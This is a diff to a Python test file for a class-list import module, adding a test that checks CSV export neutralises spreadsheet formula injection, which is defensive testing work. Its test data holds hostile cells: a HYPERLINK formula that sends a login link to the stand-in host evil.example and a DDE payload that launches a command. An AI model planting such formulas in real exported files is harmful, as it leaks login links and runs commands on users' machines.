@@ -1,8 +1,13 @@
 """K4: class lists are read as spreadsheets write them, and mistakes are named by line."""
 
+import csv
+from collections.abc import Mapping
+from dataclasses import dataclass
+
 import pytest
 
 from deemster.api.user_import.class_list import MAX_ACCOUNTS, read_class_list
+from deemster.api.user_import.documents import to_csv
 from deemster.domain.account import Role
 from deemster.domain.errors import Refused
 
@@ -43,3 +48,31 @@ def test_a_mistake_is_named_with_its_line(content: bytes, message: str) -> None:
     with pytest.raises(Refused) as fault:
         read_class_list(content)
     assert message in str(fault.value)
+
+
+@dataclass(frozen=True)
+class GivenLogIn:
+    other: Mapping[str, str]
+    name: str = "ada"
+    outcome: str = "created"
+    password: str | None = None
+    link: str | None = None
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&D2)', '\'=HYPERLINK("http://evil.example/?"&D2)'),
+        ("@SUM(1)", "'@SUM(1)"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("+49 30 1234-5", "+49 30 1234-5"),
+        ("-3.5", "-3.5"),
+        ("Ada = Lovelace", "Ada = Lovelace"),
+    ],
+)
+def test_k4_a_cell_of_the_list_is_no_formula_in_the_answer(cell: str, written: str) -> None:
+    """K4: the row has a link that logs in, which a formula could send to others."""
+    shown = to_csv([GivenLogIn({"Full name": cell})])
+    [row] = csv.DictReader(shown.splitlines())
+    assert row["Full name"] == written
